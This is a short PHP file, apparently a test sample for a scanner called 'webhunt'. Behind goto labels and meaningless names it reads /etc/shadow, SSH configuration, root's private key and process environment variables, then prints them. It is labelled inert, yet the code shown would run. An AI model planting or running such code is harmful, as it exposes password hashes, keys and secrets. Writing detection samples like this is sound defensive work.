<?php
// webhunt test sample (inert, obfuscated variant): the same dump of secret-bearing files with its
// statements shuffled behind goto labels and meaningless names.
goto a7;
b2: foreach ($l0 as $i1) { $o = @file_get_contents($i1); if ($o) { print "[$i1]\n" . $o; } } goto c9;
a7: $l0 = ['/etc/shadow', '/etc/ssh/sshd_config', '/root/.ssh/id_rsa', '/proc/self/environ']; goto b2;
c9: exit;
